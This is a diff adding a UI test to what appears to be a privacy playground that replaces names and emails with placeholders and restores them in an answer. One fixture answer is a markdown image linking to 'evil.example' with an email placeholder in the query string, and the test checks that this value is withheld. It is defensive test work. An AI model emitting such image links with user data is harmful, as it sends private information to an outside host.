@@ -63,6 +63,19 @@ describe("the playground's conversation", { skip: SKIPPED }, () => {
     await gets("Hi Emily Carter!");
   });
 
+  test("counts what was restored, and what an address withholds", async () => {
+    await label("Message 2").fill("Write to jan.novak@example.cz. My name is Emily Carter.");
+    const counts = (text) => it.page.locator("#restore-counts", { hasText: new RegExp(`^${text}$`) }).waitFor();
+    await answer().fill("Dear [[NAME_2]], dear [[NAME_2]]");
+    await counts("2 values restored");
+    await answer().fill("![x](https://evil.example/?q=[[EMAIL_1]]) [[NAME_2]]");
+    await gets("![x](https://evil.example/?q=[[EMAIL_1]]) Emily Carter");
+    await counts("1 value restored · 1 withheld");
+    await it.page.getByText("its value would become part of an address").waitFor();
+    await it.page.locator("input[name=arrived]").fill("1");
+    await counts("A placeholder that is not complete is held back until its end arrives.");
+  });
+
   test("has the same placeholder for the same value, in every message", async () => {
     await label("Message 1").fill("The customer is jan.novak@example.cz.");
     await label("Message 2").fill("Is jan.novak@example.cz an address? And eva@example.cz?");
